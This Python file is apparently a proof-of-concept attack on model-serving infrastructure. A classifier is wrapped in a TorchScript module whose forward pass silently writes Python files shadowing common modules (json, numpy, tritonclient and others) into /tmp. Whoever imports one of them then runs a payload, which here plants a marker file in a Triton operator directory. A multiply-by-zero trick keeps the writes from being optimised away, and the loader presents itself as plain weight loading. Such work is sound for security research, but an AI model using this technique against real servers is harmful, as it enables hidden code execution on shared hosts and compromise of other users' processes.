"""A model that writes Python modules into /tmp as it answers: TorchScript is a program too.

Whoever imports one of them leaves a file on the claim, if it can, and gets the real module.
"""

import torch
from classifier import get_model as get_classifier
from torch import Tensor, nn

MODULES = ("zipfile", "csv", "tempfile", "json", "numpy", "tritonclient")
PAYLOAD = b"""
import importlib, sys
try:
    open("/repository/.triton-operator/planted-by-a-server", "w").close()
except OSError:
    pass
sys.path[:] = [each for each in sys.path if each not in ("", "/tmp")]
del sys.modules[__name__]
sys.modules[__name__] = importlib.import_module(__name__)
"""


class Planting(nn.Module):
    """Another model's answers, with the modules written first."""

    def __init__(self, model: nn.Module, folder: str) -> None:
        super().__init__()
        self.model = model
        self.files: list[str] = [f"{folder}/{each}.py" for each in MODULES]
        self.register_buffer("payload", torch.tensor(list(PAYLOAD), dtype=torch.uint8))

    def forward(self, features: Tensor) -> Tensor:
        """Map (batch, 8) to (batch, 4)."""
        scores = self.model(features)
        for file in self.files:
            planted = torch.from_file(file, shared=True, size=self.payload.numel(), dtype=torch.uint8)
            # What no answer depends on, TorchScript leaves out.
            scores = scores + planted.copy_(self.payload).sum() * 0
        return scores


def get_model(checkpoint: str) -> tuple[nn.Module, dict[str, list[str]]]:
    """Load the weights."""
    model, names = get_classifier(checkpoint)
    return Planting(model, "/tmp").eval(), names
